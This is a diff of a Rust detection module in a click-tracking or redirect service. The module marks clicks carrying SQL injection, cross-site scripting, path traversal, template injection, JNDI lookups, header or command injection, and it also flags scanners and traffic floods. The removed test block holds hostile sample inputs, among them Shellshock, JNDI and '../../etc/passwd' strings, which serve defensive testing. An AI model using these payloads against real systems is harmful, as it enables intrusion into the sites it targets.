@@ -1,30 +1,52 @@
-//! Whether a click carries an attack.
+//! Whether a click looks like what it claims to be.
 //!
-//! It stands beside the flow and imports no stage: a pure function of request bytes. It marks, it never blocks: the click was answered,
-//! and whoever reads the feed may leave it out. So a missed attack costs a line in a report, and a false alarm costs
-//! a real click; the `rules` lean towards silence.
+//! This module stands beside the flow and imports no stage: the workers ask it for the event's `quality`, the redirect
+//! whether to refuse. [`find`] is a pure function of [`Evidence`]; what must be remembered from click to click
+//! (floods, guesses) is counted by the stages and comes in as evidence.
 //!
-//! Every field is scanned as it came, and once more percent-decoded when that makes a difference, by one automaton
-//! for all rules. The decoded text has `+` and every run of white space as one space. The work is linear in the
-//! input, and bounded by `MAX_SCAN`. A clean click allocates nothing unless it is decoded.
+//! | reason | verdict | what it means |
+//! |---|---|---|
+//! | `sql-injection` | malicious; weak evidence suspicious | SQL in path, query, referrer or agent |
+//! | `cross-site-scripting` | malicious; weak evidence suspicious | markup or script that would run in a page |
+//! | `path-traversal` | malicious; weak evidence suspicious | steps up the folders, or a well-known system file |
+//! | `template-injection` | malicious | code for a template engine or an expression language |
+//! | `log-lookup` | malicious; weak evidence suspicious | `${jndi:` and its disguises |
+//! | `header-injection` | malicious; weak evidence suspicious | an encoded line end, with a header behind it |
+//! | `command-injection` | malicious | a shell command |
+//! | `scanner` | suspicious | the agent names a tool that looks for weaknesses |
+//! | `impossible-headers` | suspicious | headers that no browser sends with this agent ([`headers`]) |
+//! | `click-flood` | suspicious | one visitor clicks one link too often (`quality.flood_clicks`) |
+//! | `link-enumeration` | suspicious | the address has lately asked for many links that are none (`quality.guess_links`) |
+//! | `blocked-destination` | malicious | the link leads to a place on a block list ([`lists`]) |
+//! | `data-center-network` | suspicious | the address belongs to a hosting provider |
+//! | `anonymizer-network` | suspicious | the address is an exit of Tor, a VPN or a public proxy |
+//! | `spam-referrer` | suspicious | the referrer is one that spammers send to be found in reports |
+//!
+//! The verdict is the worst that a reason says, and clean without reasons. The default action of every reason is to
+//! mark: the click was answered, and whoever reads the feed may leave it out. So a missed attack costs a line in a
+//! report, and a false alarm costs a real click; the `rules` lean towards silence. `quality.block` makes the redirect
+//! refuse instead, for a reason at its full weight only: weak evidence is marked and never refused.
 
+mod attacks;
+pub mod headers;
+pub mod lists;
+pub mod penalties;
+pub mod reason;
 mod rules;
 
-use std::sync::LazyLock;
+pub use headers::Headers;
+pub use reason::{Reason, Reasons};
 
-use aho_corasick::{AhoCorasick, AhoCorasickKind};
-
-use self::rules::{Check, Field, RULES, Reason, Rule};
-use crate::{
-    event::{Quality, Verdict},
-    query,
+use self::{
+    lists::{Destinations, ListError},
+    penalties::Penalties,
+    rules::Field,
 };
-
-/// Bytes of a field that are scanned; a longer field is judged by its beginning.
-const MAX_SCAN: usize = 8192;
-
-/// Bytes after a template's opening in which a multiplication is looked for.
-const MAX_LOOK_AHEAD: usize = 16;
+use crate::{
+    config,
+    event::{Quality, Verdict},
+    networks::Network,
+};
 
 /// What a click shows of its sender, as it came. Absent headers are empty.
 #[derive(Clone, Copy, Debug, Default)]
@@ -37,410 +59,110 @@ pub struct Evidence<'a> {
     pub referer: &'a [u8],
     /// `User-Agent`.
     pub agent: &'a [u8],
+    /// What else the headers show.
+    pub headers: Headers<'a>,
+    /// The address has lately asked for many links that are none.
+    pub guesses: bool,
+    /// The visitor clicks this link too often.
+    pub flood: bool,
+    /// The destination is on a block list.
+    pub blocked_destination: bool,
+    /// What is known of the address's network.
+    pub network: Option<Network>,
+    /// The referrer is a spammer's.
+    pub spam_referrer: bool,
+}
+
+/// What was found, a bit a reason and weight.
+#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
+pub struct Findings {
+    suspicious: Reasons,
+    malicious: Reasons,
 }
 
 /// The verdict, with the reasons for it in a fixed order: clean without reasons, else the worst that a rule says.
 pub fn judge(evidence: &Evidence<'_>) -> Quality {
+    find(evidence).quality()
+}
+
+/// Everything that speaks against a click. Allocates nothing, but for a buffer that each thread keeps.
+pub fn find(evidence: &Evidence<'_>) -> Findings {
     let mut findings = Findings::default();
-    scan(evidence.path, Field::Address, &mut findings);
-    scan(evidence.query, Field::Address, &mut findings);
-    scan(evidence.referer, Field::Address, &mut findings);
-    scan(evidence.agent, Field::Agent, &mut findings);
-    findings.into_quality()
-}
-
-/// Every needle of [`RULES`], and the rule that each belongs to.
-struct Scanner {
-    automaton: AhoCorasick,
-    rules: Vec<&'static Rule>,
-}
-
-/// `None` only if the table outgrew the automaton, which a test would show.
-static SCANNER: LazyLock<Option<Scanner>> = LazyLock::new(|| {
-    let needles = || RULES.iter().flat_map(|rule| rule.needles.iter().map(move |needle| (rule, needle)));
-    let automaton = AhoCorasick::builder()
-        .ascii_case_insensitive(true)
-        .kind(Some(AhoCorasickKind::DFA))
-        .build(needles().map(|(_, needle)| needle))
-        .ok()?;
-    Some(Scanner { automaton, rules: needles().map(|(rule, _)| rule).collect() })
-});
-
-#[derive(Default)]
-struct Findings {
-    worst: [Option<Verdict>; Reason::ALL.len()],
+    attacks::scan(evidence.path, Field::Address, &mut findings);
+    attacks::scan(evidence.query, Field::Address, &mut findings);
+    attacks::scan(evidence.referer, Field::Address, &mut findings);
+    attacks::scan(evidence.agent, Field::Agent, &mut findings);
+    let facts = [
+        (headers::are_impossible(evidence.agent, &evidence.headers), Reason::ImpossibleHeaders),
+        (evidence.flood, Reason::ClickFlood),
+        (evidence.guesses, Reason::LinkEnumeration),
+        (evidence.blocked_destination, Reason::BlockedDestination),
+        (evidence.network == Some(Network::Hosting), Reason::DataCenterNetwork),
+        (evidence.network == Some(Network::Anonymizer), Reason::AnonymizerNetwork),
+        (evidence.spam_referrer, Reason::SpamReferrer),
+    ];
+    for (holds, reason) in facts {
+        if holds {
+            findings.add(reason, reason.full_weight());
+        }
+    }
+    findings
 }
 
 impl Findings {
-    fn add(&mut self, rule: &Rule) {
-        if let Some(worst) = self.worst.get_mut(rule.reason as usize) {
-            *worst = (*worst).max(Some(rule.verdict));
+    fn add(&mut self, reason: Reason, verdict: Verdict) {
+        match verdict {
+            Verdict::Clean => {}
+            Verdict::Suspicious => self.suspicious.insert(reason),
+            Verdict::Malicious => self.malicious.insert(reason),
         }
     }
 
-    fn into_quality(self) -> Quality {
-        let found = Reason::ALL.iter().zip(&self.worst).filter(|(_, verdict)| verdict.is_some());
-        Quality {
-            verdict: self.worst.iter().flatten().max().copied().unwrap_or(Verdict::Clean),
-            reasons: found.map(|(reason, _)| reason.slug()).collect(),
+    /// The first of `reasons` that was found at its full weight.
+    pub fn first_in_full_weight(&self, reasons: Reasons) -> Option<Reason> {
+        let at_full_weight = |reason: &Reason| match reason.full_weight() {
+            Verdict::Malicious => self.malicious.contains(*reason),
+            Verdict::Clean | Verdict::Suspicious => true,
+        };
+        self.suspicious.union(self.malicious).intersection(reasons).iter().find(at_full_weight)
+    }
+
+    /// As the event tells it.
+    pub fn quality(&self) -> Quality {
+        let reasons = self.suspicious.union(self.malicious);
+        if reasons.is_empty() {
+            return Quality { verdict: Verdict::Clean, reasons: Vec::new() };
         }
+        let verdict = if self.malicious.is_empty() { Verdict::Suspicious } else { Verdict::Malicious };
+        Quality { verdict, reasons: reasons.iter().map(Reason::slug).collect() }
     }
 }
 
-fn scan(text: &[u8], field: Field, findings: &mut Findings) {
-    let text = text.get(..MAX_SCAN).unwrap_or(text);
-    search(text, field, findings);
+/// What the redirect and the workers share to judge clicks.
+pub struct Watch {
+    pub config: config::Quality,
+    pub destinations: Destinations,
+    /// Visitors that the workers want refused; only when `click-flood` is refused.
+    pub penalties: Option<Penalties>,
+}
 
-    // An agent's `+` stands before the address of a crawler, and is no space.
-    let is_encoded = match field {
-        Field::Address => memchr::memchr2(b'%', b'+', text).is_some(),
-        Field::Agent => memchr::memchr(b'%', text).is_some(),
-    };
-    if is_encoded {
-        let mut plain = Vec::with_capacity(text.len());
-        for byte in query::decoded(text) {
-            if !is_space(byte) {
-                plain.push(byte);
-            } else if plain.last() != Some(&b' ') {
-                plain.push(b' ');
-            }
+impl Watch {
+    /// Reads the block lists.
+    ///
+    /// # Errors
+    /// See [`ListError`].
+    pub fn open(config: &config::Quality) -> Result<Self, ListError> {
+        let block = config.blocked();
+        if !block.is_empty() {
+            attacks::warm_up();
         }
-        search(&plain, field, findings);
+        Ok(Self {
+            config: config.clone(),
+            destinations: Destinations::open(config)?,
+            penalties: block.contains(Reason::ClickFlood).then(|| Penalties::new(config.flood_secs)),
+        })
     }
-}
-
-fn search(text: &[u8], field: Field, findings: &mut Findings) {
-    let Some(scanner) = &*SCANNER else { return };
-    for found in scanner.automaton.find_overlapping_iter(text) {
-        if let Some(rule) = scanner.rules.get(found.pattern().as_usize())
-            && rule.fields.is_none_or(|only| only == field)
-            && holds(rule.check, text, found.start(), found.end())
-        {
-            findings.add(rule);
-        }
-    }
-}
-
-fn holds(check: Check, text: &[u8], start: usize, end: usize) -> bool {
-    let before = start.checked_sub(1).and_then(|at| text.get(at)).copied();
-    let after = text.get(end).copied();
-    let is_alphanumeric = |byte: Option<u8>| byte.is_some_and(|byte| byte.is_ascii_alphanumeric());
-    match check {
-        Check::Always => true,
-        Check::Word => !is_alphanumeric(before) && !is_alphanumeric(after),
-        Check::Segment => !is_alphanumeric(before) && before != Some(b'.'),
-        Check::Digit => after.is_some_and(|byte| byte.is_ascii_digit()),
-        Check::Multiplication => {
-            text.get(end..).is_some_and(|rest| is_multiplication(rest.get(..MAX_LOOK_AHEAD).unwrap_or(rest)))
-        }
-    }
-}
-
-/// `7*7}}`, ` 7 * '7'`: a template engine gives itself away by the product.
-///
-/// `{{1}}` and `{{2026-11-23}}` are merge tags.
-fn is_multiplication(text: &[u8]) -> bool {
-    let text = text.trim_ascii_start();
-    let digits = text.iter().take_while(|byte| byte.is_ascii_digit()).count();
-    let Some(rest) = text[digits..].trim_ascii_start().strip_prefix(b"*") else {
-        return false;
-    };
-    let factor = rest.trim_ascii_start().first();
-    digits > 0 && factor.is_some_and(|byte| byte.is_ascii_digit() || matches!(byte, b'\'' | b'"'))
-}
-
-fn is_space(byte: u8) -> bool {
-    matches!(byte, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
 }
 
 #[cfg(test)]
-mod tests {
-    use proptest::prelude::*;
-
-    use super::*;
-
-    const CHROME: &str = "Mozilla/5.0 (Linux; Android 14; CAT S61) AppleWebKit/537.36 (KHTML, like Gecko) \
-                          Chrome/126.0.0.0 Mobile Safari/537.36";
-
-    fn query(query: &str) -> Quality {
-        judge(&Evidence { query: query.as_bytes(), agent: CHROME.as_bytes(), ..Evidence::default() })
-    }
-
-    fn agent(agent: &str) -> Quality {
-        judge(&Evidence { agent: agent.as_bytes(), ..Evidence::default() })
-    }
-
-    fn encode(text: &str) -> String {
-        text.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat()
-    }
-
-    fn assert_finds(quality: &Quality, verdict: Verdict, reason: &'static str, input: &str) {
-        assert!(quality.verdict == verdict && quality.reasons.contains(&reason), "{input}: {quality:?}");
-    }
-
-    /// As typed, as a form sends it, and with every byte escaped.
-    fn assert_query_finds(text: &str, verdict: Verdict, reason: &'static str) {
-        for sent in [text.to_owned(), text.replace(' ', "+"), text.replace(' ', "%09%0b"), encode(text)] {
-            assert_finds(&query(&sent), verdict, reason, &sent);
-        }
-    }
-
-    #[test]
-    fn sql_injection_is_malicious() {
-        for text in [
-            "id=1' OR '1'='1",
-            "id=1 or 1=1-- -",
-            "id=-1 UnIoN SeLeCt 1,2,3",
-            "id=1 union all select null,null",
-            "id=1;drop table users",
-            "id=1 and sleep(5)",
-            "id=1' waitfor delay '0:0:5'--",
-            "x=(select table_name from information_schema.tables)",
-            "id=1' and extractvalue(1,concat(0x7e,version()))",
-        ] {
-            assert_query_finds(text, Verdict::Malicious, "sql-injection");
-        }
-        let commented = query("id=1/**/union/**/select/**/1,2");
-        assert_finds(&commented, Verdict::Malicious, "sql-injection", "comments for spaces");
-    }
-
-    #[test]
-    fn cross_site_scripting_is_malicious() {
-        for text in [
-            "q=<script>alert(1)</script>",
-            "q=\"><ScRiPt src=//x>",
-            "q=<img src=x onerror=alert(1)>",
-            "q=<svg/onload=alert(1)>",
-            "next=javascript:alert(document.domain)",
-            "q=<iframe srcdoc=x>",
-        ] {
-            assert_query_finds(text, Verdict::Malicious, "cross-site-scripting");
-        }
-    }
-
-    #[test]
-    fn path_traversal_is_malicious() {
-        for text in ["f=../../../../etc/passwd", "f=..\\..\\windows\\win.ini", "f=php://filter/x", "f=/etc/shadow"] {
-            assert_query_finds(text, Verdict::Malicious, "path-traversal");
-        }
-        for path in ["%2e%2e%2fadmin", "..%2f..%2fetc", "%252e%252e%252fadmin", "..%c0%afadmin", "a/..;/admin"] {
-            let quality = judge(&Evidence { path: path.as_bytes(), ..Evidence::default() });
-            assert_finds(&quality, Verdict::Malicious, "path-traversal", path);
-        }
-    }
-
-    #[test]
-    fn template_injection_is_malicious() {
-        for text in [
-            "n={{7*7}}",
-            "n=${{ 7 * 7 }}",
-            "n=${7*7}",
-            "n=#{ 7*7 }",
-            "n=<%= 7*7 %>",
-            "n={{7*'7'}}",
-            "n={{''.__class__.__mro__[1]}}",
-            "n=class.module.classLoader.x=1",
-            "n=${T(java.lang.Runtime)}",
-        ] {
-            assert_query_finds(text, Verdict::Malicious, "template-injection");
-        }
-    }
-
-    #[test]
-    fn a_log_lookup_is_malicious_wherever_it_stands() {
-        let text = "${jndi:ldap://x.example/a}";
-        for text in [text, "${${lower:j}ndi:ldap://x/}", "${${::-j}ndi:rmi://x/}", "${JNDI:dns://x}"] {
-            assert_query_finds(text, Verdict::Malicious, "log-lookup");
-            assert_finds(&agent(text), Verdict::Malicious, "log-lookup", text);
-            let referer = judge(&Evidence { referer: text.as_bytes(), ..Evidence::default() });
-            assert_finds(&referer, Verdict::Malicious, "log-lookup", text);
-            let path = judge(&Evidence { path: text.as_bytes(), ..Evidence::default() });
-            assert_finds(&path, Verdict::Malicious, "log-lookup", text);
-        }
-    }
-
-    #[test]
-    fn header_injection_needs_a_header_to_be_malicious() {
-        for text in
-            ["a%0d%0aSet-Cookie:x=1", "a%0D%0AContent-Length%3a0", "a%250d%250aset-cookie:x", "%E5%98%8D%E5%98%8A"]
-        {
-            assert_finds(&query(text), Verdict::Malicious, "header-injection", text);
-        }
-        assert_finds(&query("text=one%0d%0atwo"), Verdict::Suspicious, "header-injection", "two lines");
-    }
-
-    #[test]
-    fn command_injection_is_malicious() {
-        for text in ["c=;cat /etc/hosts", "c=$(id)", "c=| wget http://x", "c=/bin/sh -c x"] {
-            assert_query_finds(text, Verdict::Malicious, "command-injection");
-        }
-        let shellshock = "() { :;}; /bin/bash -c 'x'";
-        assert_finds(&agent(shellshock), Verdict::Malicious, "command-injection", shellshock);
-    }
-
-    #[test]
-    fn a_scanners_agent_is_suspicious() {
-        for text in [
-            "sqlmap/1.7#stable (https://sqlmap.org)",
-            "Mozilla/5.00 (Nikto/2.1.6)",
-            "Nuclei - Open-source project",
-            "Mozilla/5.0 zgrab/0.x",
-            "masscan/1.3",
-            "Fuzz Faster U Fool v2",
-            "WPScan v3",
-        ] {
-            let quality = agent(text);
-            assert_eq!((quality.verdict, &quality.reasons[..]), (Verdict::Suspicious, &["scanner"][..]), "{text}");
-        }
-    }
-
-    #[test]
-    fn a_scanners_name_elsewhere_is_clean() {
-        assert_eq!(query("utm_campaign=sqlmap+tutorial").verdict, Verdict::Clean);
-        assert_eq!(agent("Mozilla/5.0 (Linux; Niktopia 3)").verdict, Verdict::Clean);
-        let referer = b"https://blog.example/nikto/sqlmap/";
-        assert_eq!(judge(&Evidence { referer, ..Evidence::default() }).verdict, Verdict::Clean);
-    }
-
-    #[test]
-    fn weak_evidence_is_suspicious() {
-        for (text, reason) in [
-            ("q=union select", "sql-injection"),
-            ("q=select * from x", "sql-injection"),
-            ("q=good sleep(8)", "sql-injection"),
-            ("q=alert(1)", "cross-site-scripting"),
-            ("next=javascript:void(0)", "cross-site-scripting"),
-            ("q=<iframe width=1>", "cross-site-scripting"),
-            ("q=${${x}}", "log-lookup"),
-        ] {
-            assert_query_finds(text, Verdict::Suspicious, reason);
-        }
-    }
-
-    #[test]
-    fn one_step_up_is_suspicious_unless_its_dots_are_escaped() {
-        for text in ["img=../images/a.png", "img=..%2Fimages%2Fa.png", "img=..%5ca.png"] {
-            assert_finds(&query(text), Verdict::Suspicious, "path-traversal", text);
-        }
-        assert_finds(&query("img=%2e%2e/a.png"), Verdict::Malicious, "path-traversal", "escaped dots");
-    }
-
-    #[test]
-    fn ordinary_marketing_queries_are_clean() {
-        for text in [
-            "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2026&utm_content=button-1&utm_term=a+b",
-            "gclid=Cj0KCQjw-_&gbraid=0AAA&fbclid=IwAR0x_Q-..&msclkid=1f2e",
-            "q=a+union+of+select+stores",
-            "q=select+a+store+from+the+map",
-            "email=o%27connor%2Bnews%40example.com&n=D%27Or",
-            "q=rock+%27n%27+roll+or+jazz",
-            "data=%7B%22a%22%3A%7B%22b%22%3A%5B1%2C2%5D%7D%7D",
-            "data={\"a\":{\"b\":[{\"c\":null}]}}",
-            "url=https%3A%2F%2Fwww.example.com%2Fwait..what%2Fa...b%3Fx%3D1",
-            "u=https://example.com/a..b/c../d",
-            "name={{first_name}}&c={{campaign.name}}&i={{1}}&s={{ contact.email }}",
-            "g=${GADID}&k={keyword}&x=#{name}",
-            "e=*|EMAIL|*&m=%%EMAIL%%&n=<%= name %>&l=[[name]]&d=$(name)&b={{7}}&y={{2026-11-23}}",
-            "p=50%25+off+%26+more",
-            "q=@(7-8+pm)+benchmark(2024)+sleep+(deep)+drop+table+lamps",
-            "q=order+by+phone+and+save+1%3D1",
-            "q=script+writing+alert",
-            "date=2026-11-23T11:48:57%2B01:00&t=1,2,3&v=1;2;3",
-            "q=5+%3C+6+%3E+4&r=%3C3",
-            "onload=1&onerror=2&style=x",
-            "text=one%0Atwo&q=what...%2F",
-            "q=caf%C3%A9+%E2%82%AC+%F0%9F%98%80",
-            "q=100%+natural%",
-            "a=%zz&b=%",
-            "redirect=https%253A%252F%252Fexample.com%252Fa%253Fb%253Dc",
-            "q=the+cat+/+dog+%7C+bird+%3B+fish",
-            "path=etc-passwd-explained&tag=win.initiative",
-            "q=system32+or+11",
-        ] {
-            assert_eq!(query(text), Quality { verdict: Verdict::Clean, reasons: Vec::new() }, "{text}");
-        }
-    }
-
-    #[test]
-    fn ordinary_agents_and_referrers_are_clean() {
-        for text in [
-            CHROME,
-            "",
-            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-            "curl/8.5.0",
-            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) [FBAN/FBIOS;FBAV/468.0;FBLC/en_US;FBOP/5]",
-            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
-            "Wget/1.21.4",
-            "okhttp/4.12.0",
-            "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
-            "MyApp/1 CFNetwork/1 Darwin/23%20",
-        ] {
-            assert_eq!(agent(text).verdict, Verdict::Clean, "{text}");
-        }
-        for referer in ["https://www.google.com/search?q=nice+shoes", "android-app://com.google.android.gm/", "-", ""]
-        {
-            let quality = judge(&Evidence { referer: referer.as_bytes(), ..Evidence::default() });
-            assert_eq!(quality.verdict, Verdict::Clean, "{referer}");
-        }
-    }
-
-    #[test]
-    fn the_worst_reason_gives_the_verdict_and_every_reason_stands_once() {
-        let evidence = Evidence {
-            path: b"..%2fx/..%2fx",
-            query: b"a=<script>&b=<script>&c=%3Cscript%3E",
-            referer: b"${jndi:x",
-            agent: b"nikto sqlmap",
-        };
-        let Quality { verdict, reasons } = judge(&evidence);
-        assert_eq!(verdict, Verdict::Malicious);
-        assert_eq!(reasons, ["cross-site-scripting", "path-traversal", "log-lookup", "scanner"]);
-    }
-
-    #[test]
-    fn a_field_is_judged_by_its_beginning() {
-        let at = |padding: usize| query(&format!("{}<script", "a".repeat(padding))).verdict;
-        assert_eq!(at(MAX_SCAN - 7), Verdict::Malicious);
-        assert_eq!(at(MAX_SCAN - 6), Verdict::Clean);
-    }
-
-    #[test]
-    fn every_rule_is_in_the_automaton() {
-        let scanner = SCANNER.as_ref().unwrap();
-        assert_eq!(scanner.rules.len(), RULES.iter().map(|rule| rule.needles.len()).sum::<usize>());
-    }
-
-    proptest! {
-        #[test]
-        fn any_bytes_give_unique_reasons_in_order_and_a_verdict_that_fits(
-            path: Vec<u8>,
-            query in "([a-z=&+%.{}$<>'*/7 -]|%[0-9a-f]{2}|\\.\\./|\\{\\{|union select|<script|' or )*",
-            referer: Vec<u8>,
-            agent in prop_oneof![Just("sqlmap"), Just("${jndi:"), Just("x")],
-        ) {
-            let (query, agent) = (query.as_bytes(), agent.as_bytes());
-            let evidence = Evidence { path: &path, query, referer: &referer, agent };
-            let Quality { verdict, reasons } = judge(&evidence);
-            let order: Vec<&str> = Reason::ALL.iter().map(|reason| reason.slug()).collect();
-            let places: Vec<_> = reasons.iter().map(|slug| order.iter().position(|other| other == slug)).collect();
-            prop_assert!(places.iter().all(Option::is_some));
-            prop_assert!(places.is_sorted_by(|a, b| a < b));
-            prop_assert_eq!(verdict == Verdict::Clean, reasons.is_empty());
-        }
-
-        #[test]
-        fn letters_and_digits_are_clean(words in prop::collection::vec("[a-zA-Z0-9]{1,12}", 0..20)) {
-            for separator in ["+", "%20", "&", "=", "-", "_", ".", "/", ","] {
-                let text = words.join(separator);
-                prop_assert_eq!(query(&text).verdict, Verdict::Clean, "{}", text);
-            }
-        }
-
-        #[test]
-        fn an_attack_is_found_whatever_surrounds_it(before: Vec<u8>, after: Vec<u8>) {
-            let referer = [&before, &b"<script"[..], &after].concat();
-            let quality = judge(&Evidence { referer: &referer, ..Evidence::default() });
-            prop_assert_eq!(quality.verdict, Verdict::Malicious);
-        }
-    }
-}
+mod tests;
